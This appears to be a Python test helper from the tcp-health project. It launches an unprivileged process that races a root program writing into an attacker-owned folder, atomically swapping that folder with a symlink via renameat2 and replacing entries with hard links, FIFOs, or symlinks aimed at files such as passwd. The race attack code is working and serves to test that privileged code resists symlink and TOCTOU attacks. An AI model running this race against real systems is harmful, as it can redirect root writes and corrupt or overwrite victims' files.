# Copyright: (c) 2026, the tcp-health maintainers
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
"""Another user who changes names in his folder as fast as he can, while a program of root writes there.

As a program: swapping.py FOLDER OUTSIDE NAME UID. It ends when its standard input is closed.
"""

from __future__ import annotations

import contextlib
import ctypes
import itertools
import os
import subprocess
import sys
import threading
from pathlib import Path
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Iterator

NOBODY = 65534

# fcntl.h and linux/fs.h
_CURRENT, _EXCHANGE = -100, 2


@contextlib.contextmanager
def swapping(folder: Path, outside: Path, name: str, user: int = NOBODY) -> Iterator[subprocess.Popen[bytes]]:
    """Let a process of another user swap names around ``folder``/``name`` until the block ends.

    Its output is how often it has swapped the folder.
    """
    process = subprocess.Popen(
        [sys.executable, __file__, str(folder), str(outside), name, str(user)],
        stdin=subprocess.PIPE, stdout=subprocess.PIPE,
    )  # fmt: skip
    try:
        yield process
    finally:
        assert process.stdin is not None
        process.stdin.close()
        process.wait(30)


def _until_end(ended: threading.Event) -> None:
    sys.stdin.buffer.read()
    ended.set()


def exchange_folder(inside: Path, link: Path) -> bool:
    """Swap a folder and a link, in one system call."""
    libc = ctypes.CDLL(None, use_errno=True)
    return bool(libc.renameat2(_CURRENT, os.fsencode(inside), _CURRENT, os.fsencode(link), _EXCHANGE) == 0)


def plant(folder: int, mine: Path, targets: Iterator[str], turn: int) -> None:
    """Turn the names in a folder, those of temporary files and backups too, into links and FIFOs, or remove them."""
    for each in os.listdir(folder):
        with contextlib.suppress(OSError):
            if turn % 4 == 1:
                os.rename(each, f"{each[:100]}.moved", src_dir_fd=folder, dst_dir_fd=folder)
                os.link(mine, each, dst_dir_fd=folder)
                continue
            os.unlink(each, dir_fd=folder)
            if turn % 4 == 0:
                os.symlink(next(targets), each, dir_fd=folder)
            elif turn % 4 == 2:
                os.mkfifo(each, dir_fd=folder)


def attack(folder: Path, outside: Path, name: str) -> int:
    """Plant links to ``outside`` under every name that appears in the folder, and in place of the folder itself.

    folder   belongs to the attacker; the victim writes into its folder ``name``
    outside  a folder of the victim; whatever changes there is a success of the attack

    Returns how often it has swapped the folder.
    """
    ended = threading.Event()
    threading.Thread(target=_until_end, args=(ended,), daemon=True).start()
    inside, link, mine = folder / name, folder / "link", folder / "mine"
    mine.write_text("not yours\n")
    held = os.open(inside, os.O_RDONLY | os.O_DIRECTORY)
    link.symlink_to(outside)
    targets = itertools.cycle([str(outside / "passwd"), str(outside), str(outside / "new")])
    swaps = turn = 0
    while not ended.is_set():
        turn += 1
        # In some turns the names are left alone, in others the folder is: each hides the other from a victim.
        if turn % 3:
            swaps += exchange_folder(inside, link)
        if turn % 50 < 25:
            plant(held, mine, targets, turn)
    if inside.is_symlink():
        exchange_folder(inside, link)
    return swaps


def main() -> int:
    """Become the user of the command line, and attack."""
    folder, outside, name, user = sys.argv[1:]
    with contextlib.suppress(OSError):
        os.setgroups([])
        os.setgid(int(user))
        os.setuid(int(user))
    sys.stdout.write(f"{attack(Path(folder), Path(outside), name)}\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
